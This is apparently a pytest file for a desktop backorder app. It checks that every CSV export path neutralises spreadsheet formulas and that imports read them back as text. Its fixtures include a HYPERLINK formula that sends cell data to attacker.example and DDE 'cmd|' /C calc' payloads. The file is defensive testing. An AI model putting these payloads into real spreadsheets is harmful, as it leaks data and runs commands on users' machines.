"""CSV formula injection: every exporter neutralises formulas; imports read them as text (issue 18)."""

from __future__ import annotations

import csv
import io
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtGui import QGuiApplication

from backorder_desktop.demo_store import DemoStore
from backorder_desktop.domain.bulk_csv import read_csv
from backorder_desktop.domain.csv_safety import TRIGGERS, read_cell, safe_cell
from backorder_desktop.services.bulk.bulk_csv import export_csv, export_rows
from backorder_desktop.services.dock.shipment_csv import lines_from_csv
from backorder_desktop.ui.shell import AppShell
from tests.support.cli import run_cli
from tests.support.gui import open_and_sync
from tests.support.notices import backorder_for

FORMULA_SKU = '=HYPERLINK("http://attacker.example/?"&A1,"Sam")'
FORMULA_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


def _formula_like(cell: str) -> bool:
    return cell.startswith(TRIGGERS) and safe_cell(cell) != cell


def _cells(path: Path, encoding: str = "utf-8-sig") -> list[str]:
    with path.open(newline="", encoding=encoding) as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _private(path: Path) -> bool:
    return stat.S_IMODE(path.stat().st_mode) == 0o600


@pytest.fixture
def store() -> Iterator[DemoStore]:
    with DemoStore(seed=3, products=40, orders=15) as demo:
        order_id = backorder_for(demo, FORMULA_NAME, "Doe", "sam@example.com", qty=40)
        state = demo.state
        [line] = state.orders[order_id].lines
        state.variants[line.variant_id].sku = FORMULA_SKU
        line.sku = FORMULA_SKU
        demo.hostile_variant = line.variant_id  # type: ignore[attr-defined]
        yield demo


def test_every_exporter_neutralises_formulas(
    qtbot: Any, shell: AppShell, store: DemoStore, tmp_path: Path
) -> None:
    open_and_sync(qtbot, shell, store)
    window = shell.window
    exported: dict[str, list[str]] = {}

    # The three views (File > Export view as CSV).
    for name, view in (("products", window.products), ("backorders", window.backorders)):
        path = view.export_csv(tmp_path / f"{name}.csv")
        assert path is not None and _private(path)
        exported[name] = _cells(path)
    shipments = window.shipments.export_csv(tmp_path / "shipments.csv")
    assert shipments is not None and _private(shipments)
    exported["shipments"] = _cells(shipments)
    assert "'" + FORMULA_SKU in exported["products"]
    assert "'" + FORMULA_SKU in exported["backorders"]
    assert any(c.startswith("'" + FORMULA_NAME) for c in exported["backorders"])

    # Copying rows for a spreadsheet.
    view = window.backorders
    row = next(n for n, r in enumerate(view.visible_rows()) if r.line.sku == FORMULA_SKU)
    view.table.selectRow(row)
    view.copy_selection()
    copied = QGuiApplication.clipboard().text()
    exported["clipboard"] = [c for line in copied.splitlines() for c in line.split("\t")]
    assert "'" + FORMULA_SKU in exported["clipboard"]

    # Insights (figures as CSV): the SKU is among the top waiting SKUs.
    window.show_tab("insights")
    qtbot.waitUntil(lambda: window.insights_panel.report is not None, timeout=60_000)
    figures = window.insights_panel.export_csv(tmp_path / "figures.csv")
    assert figures is not None and _private(figures)
    exported["insights"] = _cells(figures, "utf-8")
    assert "'" + FORMULA_SKU in exported["insights"]

    # The bulk backorder CSV, and its re-import reads the SKU back as it is in the store.
    session = shell.controller.session
    assert session is not None
    vid = store.hostile_variant  # type: ignore[attr-defined]
    bulk = tmp_path / "bulk.csv"
    export_csv(bulk, export_rows(session.cache, [vid], 1))
    assert _private(bulk)
    exported["bulk"] = _cells(bulk)
    assert "'" + FORMULA_SKU in exported["bulk"]
    reread = read_csv(bulk.read_bytes())
    assert [r.sku for r in reread.rows] == [FORMULA_SKU], (reread, bulk.read_text())
    assert reread.problems == []

    for name, cells in exported.items():
        assert [c for c in cells if _formula_like(c)] == [], name


def test_report_csv_neutralises_formulas(store: DemoStore, tmp_path: Path) -> None:
    base = ["--data-dir", str(tmp_path), "--api-url", store.api_url, "--store-hash",
            store.store_hash]  # fmt: skip
    assert run_cli(*base, "sync", token=store.token).code == 0
    result = run_cli(*base, "report", "--csv", token=store.token)
    assert result.code == 0, result.err
    cells = [c for row in csv.reader(io.StringIO(result.out)) for c in row]
    assert "'" + FORMULA_SKU in cells
    assert [c for c in cells if _formula_like(c)] == []


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1-2 abc", "'+1-2 abc"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),  # a negative number is data
        ("-1,234.50", "-1,234.50"),
        ("Sam", "Sam"),
    ],
)
def test_cells_are_neutralised_and_read_back(cell: str, written: str) -> None:
    assert safe_cell(cell) == written
    assert read_cell(str(safe_cell(cell))) == cell


def test_shipment_csv_import_reads_a_neutralised_sku_as_text() -> None:
    [line] = lines_from_csv('sku,qty\n"\'=HYPERLINK(""x"")",3\n')
    assert (line.sku, line.qty_expected) == ('=HYPERLINK("x")', 3)
